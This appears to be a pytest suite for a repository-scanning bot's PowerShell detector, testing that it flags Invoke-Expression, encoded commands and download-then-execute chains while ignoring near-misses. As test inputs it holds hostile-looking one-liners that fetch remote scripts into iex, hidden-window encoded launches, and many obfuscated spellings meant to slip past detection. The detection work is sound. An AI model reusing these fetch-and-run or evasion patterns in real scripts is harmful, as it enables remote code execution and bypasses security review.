"""PowerShell read as PowerShell reads it (`pwshlex.py`, `pwshconstructs.py`): code made or
downloaded at run time and run, however its names are spelled; what a comment or a string holds,
and commands that only look alike, stay quiet."""

from __future__ import annotations

import time

import pytest

from bot.engine.content.dangerous import DangerousRule
from bot.engine.content.filekinds import Kind, kind_of
from bot.engine.content.pwshconstructs import matches, names_eval, powershell_constructs
from bot.engine.content.pwshlex import COMPUTED, T, lex
from bot.engine.content.suppressions import SuppressionsRule
from bot.engine.content.unicode import InvisibleUnicodeRule
from tests.content.helpers import change_of, scan, where
from tests.gitrepo import GitRepo

RULE = DangerousRule()
_EVAL = "powershell-eval"
_ENCODED = "powershell-encoded-command"
_PIPE = "shell-pipe-to-shell"


def _found(repo: GitRepo, source: str, path: str = "s.ps1", **kw: bool) -> list[tuple[int | None, str]]:
    return [(line, rule) for _, line, rule in where(scan(RULE, change_of(repo, {path: source}, **kw)))]


def _whats(source: str) -> list[str]:
    data = source.encode()
    return [found.what for found in powershell_constructs(lex(data), data)]


@pytest.mark.parametrize(
    ("path", "first", "kind"),
    [
        ("build.ps1", None, Kind.POWERSHELL),
        ("Tools/Setup.PS1", None, Kind.POWERSHELL),
        ("mod/Thing.psm1", None, Kind.POWERSHELL),
        ("mod/Thing.psd1", None, Kind.POWERSHELL),
        ("bin/tool", "#!/usr/bin/env pwsh", Kind.POWERSHELL),
        ("bin/tool", "#!/usr/bin/pwsh -NoProfile", Kind.POWERSHELL),
        ("bin/tool", "#!/opt/microsoft/powershell/7/pwsh", Kind.POWERSHELL),
        ("types.ps1xml", None, Kind.OTHER),
    ],
)
def test_powershell_files(path: str, first: str | None, kind: Kind) -> None:
    assert kind_of(path, first) is kind


@pytest.mark.parametrize(
    "source",
    [
        "$x = 1\niex $cmd\n",
        '$x = 1\nInvoke-Expression "$cmd"\n',
        "$x = 1\nInVoKe-ExPrEsSiOn $x\n",
        "$x = 1\ni`e`x $x\n",
        "$x = 1\nInv`oke-Expression $x\n",
        "$x = 1\ni'e'x $x\n",
        '$x = 1\ni"e"x $x\n',
        "$x = 1\nMicrosoft.PowerShell.Utility\\Invoke-Expression $x\n",
        "$x = 1\niex -Command $x\n",
        "$x = 1\niex -Command:$x\n",
        "$x = 1\niex ($a + $b)\n",
        "$x = 1\niex($x)\n",
        "$x = 1\niex 'a' 'b'\n",
        "$x = 1\niex\n",
        "$x = 1\n$s | iex\n",
        "$x = 1\n'Get-Date' | Invoke-Expression\n",
        "$x = 1\n$r = iex $x\n",
        "$x = 1\nif ($a) { iex $b }\n",
        "$x = 1\n$list | ForEach-Object { iex $_ }\n",
        "$x = 1\nreturn iex $x\n",
        '$x = 1\nWrite-Host "a $(iex $x) b"\n',
        'Write-Host @"\n$(iex $x)\n"@\n',
        "$x = 1\niex `\n  $x\n",
        "$x = 1\nWrite-Host 'it''s'; iex $x\n",
        "$x = 1\nWrite-Host \u2018a\u2019; iex $x\n",
        "$x = 1\n<# a #> iex $x\n",
        "$x = 1\n@(iex $x)\n",
        "$x = 1\nInvoke-Command -ScriptBlock { param($c) iex $c } -ArgumentList $y\n",
        "$x = 1\ntry { } finally { } iex $x\n",
        "$x = 1\nStart-Process powershell -ArgumentList '-NoProfile', '-c', 'iex $env:X'\n",
        '$x = 1\ncmd /c "C:\\ps\\powershell.exe -Command iex $x"\n',
        "$x = 1\niex\u00a0$x\n",
        "$x = 1\niex\u3000$x\n",
        "$x = 1\nWrite-Host a\riex $x\n",
        "$x = 1\n# a comment\riex $x\n",
        "$x = 1\nWrite-Host a\u2028iex $x\n",
        '$x = 1\nWrite-Host "a""b"; iex $x\n',
        "$x = 1\npowershell -ExecutionPolicy Bypass -c $cmd\n",
        "$x = 1\n$cmd | powershell -Command -\n",
        "$x = 1\npwsh -c ($a + $b)\n",
    ],
)
def test_invoke_expression_of_anything_but_a_fixed_string(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == [(2, _EVAL)]


@pytest.mark.parametrize(
    "source",
    [
        "$x = 1\n[scriptblock]::Create($code).Invoke()\n",
        '$x = 1\n[ScriptBlock]::create("$a")\n',
        "$x = 1\nInvoke-Command -ScriptBlock ([scriptblock]::Create($x))\n",
        "$x = 1\n& ([System.Management.Automation.ScriptBlock]::Create($s))\n",
        "$x = 1\n([type]'ScriptBlock')::Create($s)\n",
        "$x = 1\n[scriptblock]::'Create'($s)\n",
        "$x = 1\n$t::Create($s)\n",
        "$x = 1\n$ExecutionContext.InvokeCommand.InvokeScript($s)\n",
        '$x = 1\n$ExecutionContext."InvokeCommand"."Invoke`Script"($s)\n',
        "$x = 1\n$ExecutionContext.InvokeCommand.NewScriptBlock($s).Invoke()\n",
        "$x = 1\n$ExecutionContext.InvokeCommand.ExpandString($template)\n",
        "$x = 1\n[PowerShell]::Create().AddScript($s).Invoke()\n",
        "$x = 1\n$ExecutionContext | % InvokeCommand | % InvokeScript $s\n",
    ],
)
def test_code_compiled_from_a_string(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == [(2, _EVAL)]


@pytest.mark.parametrize(
    "source",
    [
        '$x = 1\n& ("ie"+"x") $c\n',
        "$x = 1\n&('i'+'ex') $c\n",
        "$x = 1\n& ('Invoke-' + ('Expr' + 'ession')) $c\n",
        "$x = 1\n. (gcm i?x) $c\n",
        "$x = 1\n& (Get-Command *-Expression) $c\n",
        "$x = 1\n& (Get-Command -Name I*-E*ion) $c\n",
        "$x = 1\n& (gcm [hi]e[x]) $c\n",
        "$x = 1\n& (gal ?ex) $c\n",
        "$x = 1\n& (Get-Item alias:\\i?x) $c\n",
        "$x = 1\n& (Get-Command $name) $c\n",
        "$x = 1\n& ($ExecutionContext.InvokeCommand.GetCommand('i*x', 'Cmdlet')) $c\n",
        "$x = 1\n& ($ExecutionContext.InvokeCommand.GetCmdletByTypeName($t)) $c\n",
        "$x = 1\n& (Write-Output iex) $c\n",
        "$x = 1\n& (-join ('x','e','i')[2..0]) $c\n",
        "$x = 1\n& 'iex' $c\n",
        '$x = 1\n& "$a$b" $c\n',
        "$x = 1\n& (Join-Path Microsoft.PowerShell.Utility Invoke-Expression) $c\n",
        "$x = 1\n$n = 'iex'\n& $n $c\n",
        "$n = 'iex'\n& $n $c\n",
        "$x = 1\n$n = $env:comspec[4,15,25]-join''; & $n $c\n",
        "$x = 1\n[string]$n = 'iex'; & $n $c\n",
        "$x = 1\n$n = 'ie'; $n += 'x'; & $n $c\n",
        "$x = 1\nforeach ($n in 'iex') { & $n $c }\n",
        "$x = 1\nsv n iex; & $n $c\n",
        "$x = 1\nSet-Variable -Name n -Value ('ie'+'x'); & $n $c\n",
        "$x = 1\nSet-Item variable:n iex; & $n $c\n",
        "$x = 1\n$n = $m = 'iex'; & $n $c\n",
        "$x = 1\n& (gcm) $c\n",
        "$x = 1\n& (gcm -Verb Invoke -Noun Expression) $c\n",
        "$x = 1\n& (Get-Command -Noun Expression -All) $c\n",
        "$x = 1\n& (gcm -CommandType Cmdlet)[140] $c\n",
        "$x = 1\n& $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression') $c\n",
        "$x = 1\n$t = gcm i?x; & $t.Name $c\n",
        "$x = 1\n$n='ie'+'x'; & (gv n -ValueOnly) $c\n",
        "$x = 1\n& (irm $u) $c\n",
        "$x = 1\n& (Get-Command -Name:$n) $c\n",
        "$x = 1\n& $x.Method() $c\n",
        "$x = 1\n[PowerShell]::Create().AddCommand('Invoke-Expression').AddArgument($c).Invoke()\n",
        "$x = 1\n$ps.AddCommand($name).AddArgument($c)\n",
        "$x = 1\n& $x.Table['k'] $c\n",
        "$x = 1\n& (gi $p) $c\n",
        "$x = 1\n& ($ExecutionContext.InvokeCommand.GetCommand) $c\n",
        "$x = 1\n$n = 'iex'; & $n $a; & $n $c\n",
    ],
)
def test_commands_named_at_run_time_that_can_be_invoke_expression(repo: GitRepo, source: str) -> None:
    assert _found(repo, source)[-1:] == [(source.count("\n"), _EVAL)]


@pytest.mark.parametrize(
    "source",
    [
        "Set-Alias x Invoke-Expression\nx $c\n",
        "New-Alias -Name run -Value iex -Force\nrun $c\n",
        "sal -Name run -Va ('ie'+'x')\nrun $c\n",
        "Set-Item alias:run iex\nrun $c\n",
        "New-Item -Path Alias:\\run -Value iex\nrun $c\n",
    ],
)
def test_aliases_for_invoke_expression(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == [(1, _EVAL), (2, _EVAL)]


def test_an_alias_made_in_unchanged_code_is_invoke_expression(repo: GitRepo) -> None:
    base = {"s.ps1": "Set-Alias run iex\n"}
    change = change_of(repo, {"s.ps1": "Set-Alias run iex\nrun $c\n"}, base)
    assert where(scan(RULE, change)) == [("s.ps1", 2, _EVAL)]


@pytest.mark.parametrize(
    "source",
    [
        "$x = 1\npowershell -EncodedCommand $b\n",
        "$x = 1\npwsh -enc ZQBjAGgAbwA=\n",
        "$x = 1\npowershell.exe -NoP -NonI -W Hidden -e ZQBjAGgAbwA=\n",
        "$x = 1\nC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ec ZQBjAGgAbwA=\n",
        "$x = 1\npowershell /enc ZQBjAGgAbwA=\n",
        "$x = 1\npowershell \u2013enc ZQBjAGgAbwA=\n",
        "$x = 1\npowershell -EncodedArguments $a -EncodedCommand $b\n",
        '$x = 1\nStart-Process powershell -ArgumentList "-NoProfile -enc $b"\n',
        "$x = 1\nStart-Process -FilePath pwsh.exe -ArgumentList '-ec', $b\n",
        '$x = 1\ncmd /c "powershell -enc $b"\n',
        "$x = 1\npowershell `\n  -enc $b\n",
    ],
)
def test_encoded_commands(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == [(2, _ENCODED)]


@pytest.mark.parametrize(
    "source",
    [
        "$x = 1\niwr https://x.io/i.ps1 | iex\n",
        "$x = 1\nInvoke-WebRequest https://x.io/i.ps1 -UseBasicParsing | Select-Object -Expand Content | iex\n",
        "$x = 1\niex (New-Object Net.WebClient).DownloadString('https://x.io/i')\n",
        '$x = 1\nIEX ((New-Object System.Net.WebClient).DownloadString("https://x.io/i"))\n',
        "$x = 1\niex (irm https://x.io/i)\n",
        "$x = 1\n(curl https://x.io/i).Content | iex\n",
        "$x = 1\n& ([scriptblock]::Create((irm https://x.io/i)))\n",
        "$x = 1\n$ExecutionContext.InvokeCommand.InvokeScript((wget https://x.io/i))\n",
        '$x = 1\npowershell -NoProfile -Command "iwr https://x.io/i | iex"\n',
        '$x = 1\nStart-Process powershell -ArgumentList "-c iwr https://x.io/i | iex"\n',
        "$x = 1\nstart pwsh.exe -Args '-c', 'iex (irm https://x.io/i)' -Wait\n",
        '$x = 1\npowershell "iex (irm https://x.io/i)"\n',
        "$x = 1\niex (\n  irm https://x.io/i\n)\n",
    ],
)
def test_downloads_evaluated(repo: GitRepo, source: str) -> None:
    assert _found(repo, source)[:1] == [(2, _PIPE)]


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("iwr https://x.io/s.exe -OutFile s.exe\nStart-Process .\\s.exe\n", 2),
        ('(New-Object Net.WebClient).DownloadFile($u, "$env:TEMP\\i.exe")\n& "$env:TEMP\\i.exe" /S\n', 2),
        ("iwr $u -OutFile $f; & $f\n", 1),
        ("Invoke-WebRequest -Uri $u -OutFile i.ps1\n. ./i.ps1\n", 2),
        ("curl.exe -L -o i.msi $u\nmsiexec /i i.msi /qn\n", 2),
        ("Start-BitsTransfer -Source $u -Destination $f\nInvoke-Item $f\n", 2),
        ("Start-BitsTransfer $u $f\nStart-Process -FilePath $f -Wait\n", 2),
        ("irm $u -OutF m.psm1\nImport-Module ./m.psm1\n", 2),
        ("iwr $u -OutFile setup.exe\n.\\setup.exe /S\n", 2),
    ],
)
def test_files_a_download_wrote_run(repo: GitRepo, source: str, line: int) -> None:
    assert _found(repo, source) == [(line, _PIPE)]


def test_a_file_run_in_unchanged_code_is_reported_on_its_download(repo: GitRepo) -> None:
    base = {"s.ps1": "Write-Host start\n& $f\n"}
    change = change_of(repo, {"s.ps1": "iwr $u -OutFile $f\n& $f\n"}, base)
    assert where(scan(RULE, change)) == [("s.ps1", 1, _PIPE)]


@pytest.mark.parametrize(
    "source",
    [
        "Invoke-WebRequest -Uri $u -OutFile x.zip\nExpand-Archive x.zip -DestinationPath out\n",
        "iwr $u -OutFile $f\nif ((Get-FileHash $f).Hash -ne $pin) { throw 'bad' }\n& $f\n",
        "iwr $u -OutFile s.exe\nGet-AuthenticodeSignature s.exe\nStart-Process s.exe\n",
        "& $f\niwr $u -OutFile $f\n",
        "iwr $u -OutFile a.exe\n& b.exe\n",
        'Write-Host "iex is dangerous"\n',
        "# iex $x\n<# Invoke-Expression $y\n iex $z #>\n",
        "Write-Host 'Invoke-Expression $x'\n",
        "$t = @'\nInvoke-Expression $x\n'@\nWrite-Host $t\n",
        '$t = @"\niex $y " quoted\n"@\nWrite-Host $t\n',
        "Get-Content file | Out-File b\n",
        "$iex = 1\n$x = $iex + 1\n",
        "Get-Help iex\n",
        "Write-Host iex\n",
        "$o.iex($x)\n",
        "Invoke-ExpressionLike $x\n",
        "My-iex $x\n",
        "iex 'Get-Date'\n",
        'iex "Get-Date"\n',
        "Invoke-Expression -Command 'Get-Date'\n",
        "$exe = 'C:\\tools\\x.exe'\n& $exe --version\n",
        "& $exe --version\n",
        "param($Tool)\n& $Tool --version\n",
        "& (Join-Path $PSScriptRoot 'build.ps1') -Configuration Release\n",
        '& "$PSScriptRoot\\build.ps1" -x\n',
        "& 'C:\\Program Files\\Git\\bin\\git.exe' status\n",
        "& { Write-Host hi }\n",
        ". .\\lib.ps1\n",
        ". $PSScriptRoot/lib.ps1\n",
        "$msbuild = & $vswhere -latest -find MSBuild\\**\\MSBuild.exe\n& $msbuild /t:Build\n",
        "$py = (Get-Command python).Source\n& $py -m pip install -r requirements.txt\n",
        "$gitExe = Get-Command git\n& $gitExe status\n",
        "& (Get-Command git) status\n",
        "$n = Join-Path $dir 'tool.exe'\n& $n\n",
        "Get-ChildItem *.ps1 | ForEach-Object { & $_ }\n",
        "[System.IO.File]::Create($p)\n",
        "[scriptblock]::Create('Get-Date')\n",
        "$ExecutionContext.InvokeCommand.InvokeScript('Get-Date')\n",
        "$x.Create($y)\n",
        "'x'.Create($y)\n",
        "Add-Type -TypeDefinition $source\n",
        "Set-Alias ll Get-ChildItem\nll\n",
        "New-Item -Path alias:ll -Value Get-ChildItem\n",
        "New-Item -Path C:\\temp\\x -Value iex\n",
        "Set-Variable -Name n -Value 'git'; & $n status\n",
        "Set-Alias\n",
        "powershell -File build.ps1 -enc utf8\n",
        "pwsh -NoProfile -File ./build.ps1\n",
        "pwsh -c { Get-Date }\n",
        "pwsh -c 'Get-Date'\n",
        'pwsh -c "Set-Location $dir; ./build.ps1"\n',
        "pwsh -ExecutionPolicy Bypass\n",
        "Write-Host 'powershell -enc'\n",
        "Write-Host powershell -enc x\n",
        "Get-Process -e 1\n",
        "iwr $u -OutFile out.json\n",
        "$r = irm https://api.x.io/v1 | ConvertTo-Json\n",
        "[string]$n\n",
        "Start-Process pwsh -ArgumentList '-File', 'build.ps1'\n",
        'Start-Process pwsh -ArgumentList "-NoExit", "-Command", "Set-Location $dir"\n',
        "Start-Process notepad -ArgumentList 'powershell.txt'\n",
        "Start-Process notepad\n",
        "param($a) Write-Host $a\n",
        "function f($a) { Write-Host $a }\n",
        "$sb = { param($x) Write-Output $x }\n& $sb 1\n",
        "[PowerShell]::Create().AddCommand('Get-Date').Invoke()\n",
        "$ps.AddCommand()\n",
        "$dotnet = Join-Path $env:LOCALAPPDATA 'Microsoft\\dotnet\\dotnet.exe'\n& $dotnet build -c Release\n",
        "Write-Host a\u00a0iex $x\n",
        "& (gcm -CommandType Application git) status\n",
        "$tool = Get-Command git; & $tool.Source status\n",
        "& $tool.Path --version\n",
        "& $env:TOOL --version\n",
        "& $x.Path{1} --version\n",
        "& (Get-Item C:\\tools\\x.exe) --version\n",
        "$wc.DownloadFile\n",
        "Start-BitsTransfer $u\n",
    ],
)
def test_near_misses(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == []


def test_only_added_lines_are_reported(repo: GitRepo) -> None:
    base = {"s.ps1": "iex $old\n$n = 'iex'\n"}
    change = change_of(repo, {"s.ps1": "iex $old\n$n = 'iex'\nWrite-Host hi\n& $n $c\n"}, base)
    assert where(scan(RULE, change)) == [("s.ps1", 4, _EVAL)]


def test_each_hunk_is_read_when_the_new_text_is_unknown(repo: GitRepo) -> None:
    middle = "".join(f"$b{i} = {i}\n" for i in range(12))
    base = {"s.ps1": f"$a = 1\n{middle}$c = 3\n"}
    head = {"s.ps1": f"$a = 1\niwr https://x.io/i | iex\n{middle}$c = 3\ni`e`x $c\n"}
    change = change_of(repo, head, base, texts=False)
    assert where(scan(RULE, change)) == [("s.ps1", 2, _PIPE), ("s.ps1", 16, _EVAL)]


def test_a_pwsh_script_without_an_extension(repo: GitRepo) -> None:
    assert _found(repo, "#!/usr/bin/env pwsh\niex $c\n", path="bin/tool") == [(2, _EVAL)]


def test_a_command_line_handed_on_is_read_to_a_depth() -> None:
    inner = "iex $x"
    for _ in range(3):
        inner = "pwsh -c '" + inner.replace("'", "''") + "'"
    assert _whats(inner) == ["eval"]
    for _ in range(3):
        inner = "pwsh -c '" + inner.replace("'", "''") + "'"
    assert _whats(inner) == []


def test_the_lexer_view() -> None:
    data = b"i`e`x \"a $(iwr 'x') b\" # c\n$e.\"Invoke\"(1); @'\nz\n'@; Write-Host `\n  1"
    lexed = lex(data)
    view = bytes(lexed.lexed.view)
    assert len(view) == len(data)
    assert view.startswith(b"iex   ")
    assert b"# c" not in view and b".Invoke  (1)" in view
    assert lexed.lexed.hidden(data.index(b"a $")) and not lexed.lexed.hidden(data.index(b"iwr"))
    assert lexed.lexed.hidden(data.index(b"'x'") + 1) and lexed.lexed.hidden(data.index(b"z\n"))
    assert b"`" not in view[view.index(b"Write-Host") :]
    strings = [t.text for t in lexed.tokens if t.kind is T.STRING]
    assert strings == [f"a {COMPUTED} b", "x", "z"]


@pytest.mark.parametrize(
    ("source", "kinds"),
    [
        ("$(", [T.OPEN]),
        ("${a b}", [T.VARIABLE]),
        ("@splat", [T.VARIABLE]),
        ("@", [T.WORD]),
        ("$", [T.WORD]),
        ('"$"', [T.STRING]),
        ('"${x}"', [T.STRING]),
        ('"`', [T.STRING]),
        ("'a", [T.STRING]),
        ('"a', [T.STRING]),
        ("@'\nno end", [T.STRING]),
        ("a && b || c", [T.WORD, T.END, T.WORD, T.END, T.WORD]),
        ("a 2>&1", [T.WORD, T.WORD]),
        ("a`", [T.WORD]),
        ("<# open", []),
        (")", [T.CLOSE]),
        ("a,b", [T.WORD, T.COMMA, T.WORD]),
        ("a`\r\nb", [T.WORD, T.WORD]),
        ("x$y", [T.WORD]),
        ('x"$(y)"', [T.WORD, T.OPEN, T.WORD, T.CLOSE]),
        ("\u2014", [T.WORD]),
        ("\x00", [T.WORD]),
        ("$x.", [T.VARIABLE, T.MEMBER]),
        ('$x."$y"', [T.VARIABLE, T.MEMBER]),
        ("'a' ''", [T.STRING, T.STRING]),
    ],
)
def test_the_lexer_tokens(source: str, kinds: list[T]) -> None:
    assert [t.kind for t in lex(source.encode()).tokens] == kinds


def test_strings_inside_one_another_are_read_to_a_depth() -> None:
    deep = '"$(' * 100 + "iex $x"
    assert _whats(deep) == []
    assert _whats('"$(' * 10 + "iex $x" + ')"' * 10) == ["eval"]


@pytest.mark.parametrize(
    ("pattern", "name", "matched"),
    [
        ("i?x", "iex", True),
        ("*-expression", "invoke-expression", True),
        ("[a-j]ex", "iex", True),
        ("[!]ex", "iex", False),
        ("[abc", "[abc", True),
        (COMPUTED, "anything", True),
        ("iex", "ie", False),
    ],
)
def test_wildcards(pattern: str, name: str, matched: bool) -> None:
    assert matches(pattern, name) is matched


def test_names_eval() -> None:
    assert names_eval("Invoke-Expression") and not names_eval("Invoke-WebRequest")


def test_big_hostile_inputs_are_read_in_linear_time() -> None:
    for data in (b"$x | iex " * 20000, b"return " * 20000, b"& (" * 20000, b"$a = " * 20000 + b"\n& $a $x"):
        start = time.perf_counter()
        list(powershell_constructs(lex(data), data))
        assert time.perf_counter() - start < 5


def test_powershell_names_are_still_judged_by_invisible_unicode(repo: GitRepo) -> None:
    change = change_of(repo, {"s.ps1": "$x = 1\nWrite-Host \u200bhi\n"})
    assert where(scan(InvisibleUnicodeRule(), change))


def test_powershell_lint_suppressions_are_still_read(repo: GitRepo) -> None:
    marker = change_of(
        repo, {"t.ps1": "[Diagnostics.CodeAnalysis.SuppressMessageAttribute('PSAvoid', '')]\n"}
    )
    assert where(scan(SuppressionsRule(), marker))


def test_variables_judged_through_others_to_a_depth() -> None:
    def chained(count: int) -> str:
        steps = "".join(f"$a{i + 1} = $a{i}.x\n" for i in range(count))
        return f"$a0 = gcm git\n{steps}& $a{count}.y $c\n"

    assert _whats(chained(5)) == []
    assert _whats(chained(5000)) == ["eval-name"]
